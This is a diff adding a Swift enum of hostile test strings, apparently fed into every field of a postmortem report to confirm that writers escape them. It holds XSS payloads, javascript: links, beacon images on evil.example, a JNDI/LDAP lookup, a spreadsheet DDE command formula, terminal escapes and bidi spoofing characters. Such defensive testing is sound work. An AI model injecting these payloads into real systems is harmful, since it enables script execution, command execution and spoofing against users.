@@ -1,0 +1,36 @@
+/// What a bundle may hold when somebody wants a report to do something: each string is put behind every name, path and
+/// message of a postmortem, and no writer may make anything of it.
+enum HostileText {
+  static let all = [
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "\"><svg onload=alert(1)>",
+    "</code></td></table><h1>owned</h1>",
+    "![x](http://evil.example/beacon.png)",
+    "[click](javascript:alert(1))",
+    "https://evil.example www.evil.example",
+    "@all @everyone @org/team",
+    "#1 org/repo#2 GH-3",
+    "/close\n/assign @all",
+    "\n/close\n",
+    "\r\n# heading\r\n- [ ] task",
+    "\r",
+    "| a | b |\n|---|---|",
+    "a\\| b \\\\| c",
+    "` ![x](http://evil.example)",
+    "``` \n<b>out</b>\n```",
+    "\\|` ![x](http://evil.example) `",
+    "`\u{301}` <b>",
+    "$`\\href{javascript:alert(1)}{x}`$ $$x$$",
+    "\u{1B}[2J\u{1B}]0;owned\u{7}\u{9B}31m",
+    "\u{202E}gnp.exe\u{2066}\u{200F}\u{200B}\u{FEFF}\u{2028}\u{2029}\u{85}",
+    "{{7*7}} ${jndi:ldap://evil} =cmd|' /C calc'!A0",
+    "&lt;b&gt; &#x3c;b> --> ]]> <!--",
+    "<details open><summary>x</summary>",
+    "*bold* _em_ ~~strike~~ > quote 1. list",
+    String(repeating: "`", count: 40),
+    String(repeating: "\u{202E}", count: 2000),
+    "",
+    " ",
+  ]
+}
